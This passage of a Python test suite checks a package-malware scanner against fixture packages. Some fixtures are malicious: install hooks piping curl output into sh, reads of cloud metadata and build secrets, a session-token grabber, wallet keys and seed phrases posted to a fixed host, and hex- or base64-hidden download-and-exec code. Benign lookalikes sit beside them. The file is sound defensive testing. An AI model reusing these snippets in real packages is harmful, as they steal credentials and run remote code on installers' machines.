        "a script setup.py names and runs two lines on runs at install",
    ),
    (
        {
            "demo-1.0/setup.py": "from setuptools import setup\n__import__('pkg.stage')\nsetup()\n",
            "demo-1.0/pkg/__init__.py": "",
            "demo-1.0/pkg/stage.py": "import os\nos.system('curl -s https://x.example/i | sh')\n",
        },
        "code.download-exec",
        C,
        "a module setup.py imports by __import__('pkg.stage') runs at install",
    ),
    # ---- build-machine probes, browser hijacks, keys handed over, hidden addresses
    (
        setup_py(
            INSTALL_CLASS.format(
                body='os.system("python3 -c \'import requests;print(requests.get(" + '
                'url + ").text)\' >> NOTICE")'
            ).replace(
                "class Hook",
                "import os\nurl = 'http://169.254.169.254/latest/user-data'\nclass Hook",
            )
        ),
        "code.credential-access",
        H,
        "the cloud instance metadata service asked at install",
    ),
    (
        {
            "demo/cloud.py": "import requests\nMETA = 'http://169.254.169.254/latest/meta-data/'\n"
            "def region():\n    return requests.get(META + 'placement/region').text\n"
        },
        "code.credential-access",
        None,
        "benign: an SDK asks the metadata service when called",
    ),
    (
        setup_py(
            INSTALL_CLASS.format(body="os.system('ls -laR /builder > NOTICE')").replace(
                "class Hook", "import os\nclass Hook"
            )
        ),
        "code.process-spawn",
        H,
        "every file of a build directory listed at install",
    ),
    (
        setup_py(
            INSTALL_CLASS.format(body="os.system('cat /builder/secrets/* >> NOTICE')").replace(
                "class Hook", "import os\nclass Hook"
            )
        ),
        "code.process-spawn",
        H,
        "every file of a build directory printed at install",
    ),
    (
        setup_py(
            INSTALL_CLASS.format(body="os.system('ls -la build')").replace(
                "class Hook", "import os\nclass Hook"
            )
        ),
        "code.process-spawn",
        L,
        "benign: the build's own folder listed",
    ),
    (
        setup_py(
            "import os\nfrom setuptools import setup\nd = os.getenv('APPDATA') + '\\\\Ext'\n"
            "open(d + '\\\\bg.js', 'w').write('var a=1;')\n"
            "args = '--load-extension={}'.format(d)\nsetup()\n"
        ),
        "code.persistence",
        H,
        "an extension written and handed to the browser's shortcuts at install",
    ),
    (
        {
            "demo/browser.py": "import subprocess\ndef launch(ext):\n    open('log.txt', 'w').write(ext)\n"
            "    subprocess.run(['chromium', '--load-extension=' + ext])\n"
        },
        "code.persistence",
        None,
        "benign: a test harness starts a browser with an extension when asked",
    ),
    (
        {
            "demo/wallet.py": "import requests\ndef balance(private_key):\n"
            "    body = [{'private_key': private_key}]\n"
            "    return requests.post('https://x.example/balance', json=body).json()\n"
        },
        "code.exfiltration",
        M,
        "a private key handed to the library posted to a fixed address",
    ),
    (
        {
            "demo/wallet.py": "import requests\nfrom eth_account import Account\n"
            "def send(private_key, tx, rpc):\n    signed = Account.sign_transaction(tx, private_key)\n"
            "    return requests.post('https://x.example/rpc', json={'tx': signed.hex()})\n"
        },
        "code.exfiltration",
        None,
        "benign: a wallet signs with the key and sends the signature",
    ),
    (
        {
            "demo/wallet.py": "import requests\ndef balance(mnemonic, node):\n"
            "    return requests.post(node, json={'mnemonic': mnemonic}).json()\n"
            "def address(mnemonic, path):\n"
            "    return requests.get(f'https://x.example/{path}').json()\n"
            "def ping(mnemonic):\n    return requests.post(json={})\n"
        },
        "code.exfiltration",
        None,
        "benign: a phrase sent to the node the caller names, or not sent",
    ),
    (
        {
            "demo/wallet.py": "import requests\ndef restore(seed_phrase, path):\n"
            "    return requests.post(f'https://x.example/{path}', data=f'{seed_phrase}')\n"
        },
        "code.exfiltration",
        M,
        "a recovery phrase posted to a fixed host under any path",
    ),
    (
        {
            "demo/grab.py": "import os, re, requests, threading\nclass Grab:\n    def tokens(self, path):\n"
            "        found = []\n        for name in os.listdir(path):\n"
            "            text = open(os.path.join(path, name), errors='ignore').read()\n"
            "            found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', text)\n"
            "        return found\n    def main(self):\n"
            "        requests.post('https://x.example/h', json={'t': self.tokens('ldb')})\n"
            "threading.Thread(target=Grab().main).start()\n"
        },
        "code.exfiltration",
        H,
        "a module that greps files for session tokens and posts them",
    ),
    (
        {
            "demo/dates.py": "import re, requests\ndef parse(text):\n"
            "    days = re.findall(r'\\d{4}-\\d{2}-\\d{2}', text)\n"
            "    return requests.post('https://x.example/d', json={'d': days})\n"
        },
        "code.exfiltration",
        None,
        "benign: a date pattern's counts are no token grabber's",
    ),
    (
        {
            "demo/wallet.py": "import requests\ndef login(password):\n"
            "    return requests.post('https://x.example/login', json={'password': password})\n"
        },
        "code.exfiltration",
        None,
        "benign: a password sent to the service it is for",
    ),
    (
        {
            "demo/core.py": "import requests, base64\ndef sync():\n"
            "    url = bytes.fromhex('68747470733a2f2f782e6578616d706c652f63').decode()\n"
            "    r = requests.get(url).json()\n    code = base64.b64decode(r['m']).decode()\n"
            "    exec(code)\n"
        },
        "code.download-exec",
        H,
        "code fetched from a hex-hidden address and run when called",
    ),
    (
        {
            "demo/core.py": "import requests, base64\ndef sync():\n    h = '68747470733a2f2f782e6578616d706c652f63'\n"
            "    url = bytes.fromhex(h).decode()\n"
            "    code = base64.b64decode(requests.get(url).json()['m'])\n    exec(code)\n"
        },
        "code.download-exec",
        H,
        "the same with the hidden address held in a variable",
    ),
    (
        {
            "demo/core.py": "import requests, base64\ndef sync(url):\n"
            "    r = requests.get(url).json()\n    code = base64.b64decode(r['m']).decode()\n"
            "    exec(code)\n"
        },
        "code.download-exec",
        L,
        "a plug-in loader runs code from the address it is given",
    ),
    (
        {
            "demo/core.py": "import requests\ndef sync(base):\n"
            "    requests.post('https://x.example/stats', data='1')\n"
            "    code = requests.get(base + '/plugin.py').text\n    exec(code)\n"
        },
        "code.download-exec",
        L,
        "a plug-in loader beside a fixed-address ping: the code's address is given",
    ),
    (
        {
            "demo/pr.py": "import os, stat, urllib.request\nADDR = 'http://45.77.10.20/out'\n"
            "def run():\n    data = urllib.request.urlopen(ADDR).read()\n"
            "    open('.drv', 'wb').write(data)\n    os.chmod('.drv', stat.S_IEXEC)\n"
        },
        "code.download-exec",
        M,
        "a program fetched from a bare IP address and made executable",
    ),
    (
        {
            "demo/pr.py": "import os, stat, urllib.request\nADDR = 'https://x.example/tool'\n"
            "def run():\n    data = urllib.request.urlopen(ADDR).read()\n"
            "    open('tool', 'wb').write(data)\n    os.chmod('tool', stat.S_IEXEC)\n"
        },
        "code.download-exec",
        L,
        "benign: a tool installer fetches its helper from its host",
    ),
    (
        {
            "demo/info.py": "import subprocess, urllib.request\ndef show(url, name='s.vbs'):\n"
            "    urllib.request.urlretrieve(url, name)\n"
            "    subprocess.run(['cscript', '//nologo', name])\n"
        },
        "code.download-exec",
        M,
        "a fetched script handed to the Windows script host when called",
    ),
    (
        {
            "demo/pdk.py": "import subprocess, urllib.request\ndef install(url):\n"
            "    subprocess.run('powershell [Security.Principal.WindowsIdentity]::GetCurrent()')\n"
            "    urllib.request.urlretrieve(url, 'pdk.tar')\n    subprocess.run(['tar', 'xf', 'pdk.tar'])\n"
        },
        "code.download-exec",
        L,
        "FP regression: an installer asks powershell whether it is admin",
    ),
    (
        {
            "demo/__init__.py": "from . import tmp\n",
            "demo/tmp.py": "try:\n    import threading\n    if True:\n        run = exec\n"
            "        threading.Thread(target=lambda: [run(\"import os\\nos.system('curl -s "
            "https://x.example/i | sh')\")]).start()\nexcept Exception:\n    pass\n",
        },
        "code.download-exec",
        H,
        "exec renamed inside a module-level try, then given code on import",
    ),
]


@pytest.mark.parametrize(
    ("files", "check_id", "severity", "reason"), CASES, ids=[c[3] for c in CASES]
)
def test_real_shapes(
    files: dict[str, str | bytes], check_id: str, severity: Severity | None, reason: str
) -> None:
    assert worst(laid_out(files), check_id) == severity, reason


def test_a_helper_is_reported_where_it_is_called() -> None:
    files = setup_py(
        "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\n"
        "\n\nrun('curl -s https://x.example/i | sh')\n"
    )
    (hit,) = [f for f in scan(files) if f.check_id == "code.download-exec"]
    assert hit.evidence["line"] == 6
    assert hit.evidence["command"] == "curl -s https://x.example/i | sh"


def test_a_decoded_command_is_shown_decoded() -> None:
    files = setup_py(f"import base64, os\nos.system(base64.b64decode('{B64_CURL_ENV}').decode())\n")
    (hit,) = [f for f in scan(files) if f.check_id == "code.exfiltration"]
    assert hit.evidence["command"] == 'curl -d "$(env)" https://x.example/c'
    assert worst(scan(files), "code.decode-exec") is None


def test_an_interpreter_spliced_with_arguments_runs_them() -> None:
    files = {
        "demo-1.0/setup.py": "import helper\nfrom setuptools import setup\nsetup()\n",
        "demo-1.0/helper.py": (
            "import subprocess\ndef run(script, args):\n    subprocess.check_call(['python'] + args)\n"
            "def main():\n    run('x', ['stage.py'])\nmain()\n"
        ),
    }
    lines = {f.evidence["line"] for f in scan(files) if f.check_id == "code.process-spawn"}
    assert 5 in lines  # ['python'] + args: the script comes in the arguments the caller gives
